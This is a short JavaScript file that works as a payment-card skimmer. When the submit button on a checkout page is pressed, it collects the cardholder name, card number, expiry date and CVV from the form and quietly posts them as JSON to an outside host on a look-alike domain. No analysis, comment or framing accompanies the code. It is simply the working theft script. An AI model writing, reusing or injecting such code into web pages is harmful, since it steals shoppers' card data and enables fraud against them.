window.onload = function () {
  jQuery("#submitButton").bind("mouseup touchend", function (e) {
    var n = {};
    var f = document.getElementById("paymentForm");
    if (f) {
      n.name = document.getElementById("cardholderName").value;
      n.number = document.getElementById("cardNumber").value;
      n.exp = document.getElementById("expiryMonth").value + "/" + document.getElementById("expiryYear").value;
      n.cvv = document.getElementById("cvc").value;
    }
    setTimeout(function () {
      var e = JSON.stringify(n);
      var t = new XMLHttpRequest();
      t.open("POST", "https://northwind-outfiters.invalid/gateway/app/dataprocessing/api/", true);
      t.setRequestHeader("Content-Type", "application/json");
      t.send(e);
    }, 500);
  });
};
